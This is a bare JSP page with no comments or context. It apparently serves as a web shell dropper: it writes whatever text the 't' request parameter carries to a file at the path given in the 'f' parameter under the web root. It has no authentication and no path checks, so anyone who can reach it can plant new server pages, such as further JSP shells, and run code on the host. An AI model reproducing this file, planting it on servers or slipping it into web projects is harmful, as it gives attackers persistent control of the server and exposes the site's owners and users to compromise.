<%@ page import="java.io.*" %>
<%
    String path = request.getParameter("f");
    String data = request.getParameter("t");
    if (path != null && data != null) {
        FileOutputStream fos = new FileOutputStream(application.getRealPath("/") + request.getParameter("f"));
        fos.write(data.getBytes("UTF-8"));
        fos.close();
        out.print("saved");
    }
%>
